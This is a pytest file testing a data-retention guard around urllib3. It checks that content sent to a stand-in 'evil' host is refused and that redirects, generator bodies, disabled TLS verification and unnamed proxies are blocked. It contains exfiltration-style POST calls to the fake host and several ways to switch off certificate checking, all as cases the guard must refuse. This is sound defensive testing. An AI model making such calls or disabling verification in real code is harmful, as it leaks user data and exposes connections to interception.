"""urllib3: a pool's requests are judged as they are made, retries and redirects among them."""

from __future__ import annotations

import io
import ssl
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import urllib3

from scenes import Scene
from zeroret.errors import RetentionViolation

pytestmark = pytest.mark.usefixtures("guarded")


WAYS: dict[str, Callable[[str], dict[str, Any]]] = {
    "text": lambda content: {"body": content},
    "json": lambda content: {"json": {"q": content}},
    "fields": lambda content: {"fields": {"q": content}},
    "file": lambda content: {"body": io.BytesIO(content.encode())},
    "pieces": lambda content: {"body": (content[at : at + 7].encode() for at in range(0, 90, 7))},
    "header": lambda content: {"headers": {"X-Note": content}},
}


@pytest.mark.parametrize("way", WAYS)
def test_content_stays(way: str, content: str, scene: Scene) -> None:
    """One refusal, no retry, nothing sent; the upstream gets it all."""
    with scene.exchange(upstreams=[scene.upstream.name]), urllib3.PoolManager() as pool:
        pool.request("POST", scene.evil.url, body=b"words of the program's own")
        with pytest.raises(RetentionViolation) as caught:
            pool.request("POST", scene.evil.url, **WAYS[way](content))
        pool.request("POST", scene.upstream.url, **WAYS[way](content))
    assert caught.value.__cause__ is caught.value.__context__ is None
    assert [noted.body for noted in scene.evil.requests] == [b"words of the program's own"]
    assert len(scene.upstream.requests) == 1
    assert scene.counted.counts() == {"upstream.refused": 1}


def test_a_redirect_is_a_request_of_its_own(content: str, scene: Scene) -> None:
    """An upstream cannot hand content on to another host."""
    scene.upstream.redirect = scene.evil.url
    with (
        scene.exchange(upstreams=[scene.upstream.name]),
        urllib3.PoolManager() as pool,
        pytest.raises(RetentionViolation),
    ):
        pool.request("POST", scene.upstream.url, body=content)
    assert scene.evil.requests == []


def test_requests_within_a_body_are_judged_for_themselves(content: str, scene: Scene) -> None:
    """What makes a body for an upstream may make requests meanwhile."""

    def body() -> Any:
        yield b"beginning"
        urllib3.request("POST", scene.evil.url, body=content)

    with scene.exchange(upstreams=[scene.upstream.name]), pytest.raises(RetentionViolation):
        urllib3.request("POST", scene.upstream.url, body=body())
    assert scene.evil.requests == []


def test_tls_must_be_verified(
    content: str, secure: Any, resolved: None, certificate: Path, scene: Scene
) -> None:
    """Every way to turn checks off makes it no upstream; a pinned certificate is a check."""
    url = f"https://llm.test:{secure.port}/"
    lax = ssl._create_unverified_context()  # noqa: S323 - what must be refused
    refused: list[dict[str, Any]] = [
        {"cert_reqs": "CERT_NONE"},
        {"cert_reqs": ssl.CERT_NONE},
        {"cert_reqs": "NONE"},
        {"assert_hostname": False, "ca_certs": str(certificate)},
        {"assert_hostname": "localhost", "ca_certs": str(certificate)},
        {"server_hostname": "localhost", "ca_certs": str(certificate)},
        {"ssl_context": lax},
    ]
    der = ssl.PEM_cert_to_DER_cert(certificate.read_text().partition("-----BEGIN PRIV")[0])
    pinned = {"assert_fingerprint": __import__("hashlib").sha256(der).hexdigest()}
    with scene.exchange(upstreams=["llm.test"]):
        for options in refused:
            with (
                urllib3.PoolManager(**options) as pool,
                pytest.raises(RetentionViolation, match="without TLS"),
            ):
                pool.request("POST", url, body=content)
        for options in ({"ca_certs": str(certificate)}, pinned | {"cert_reqs": "CERT_NONE"}):
            with urllib3.PoolManager(**options) as pool:
                pool.request("POST", url, body=content)
    assert len(secure.requests) == 2


def test_a_proxy_that_reads_has_to_be_named(content: str, scene: Scene) -> None:
    """What a proxy can read goes only where proxy and host are both named."""
    allowed = "http://vllm.test:8000"
    for names, passes in (([allowed], False), ([allowed, scene.upstream.name], True)):
        with scene.exchange(upstreams=names), urllib3.ProxyManager(scene.upstream.url) as pool:
            if passes:
                pool.request("POST", allowed, body=content)
            else:
                with pytest.raises(RetentionViolation):
                    pool.request("POST", allowed, body=content)
    assert [noted.path for noted in scene.upstream.requests] == [allowed]
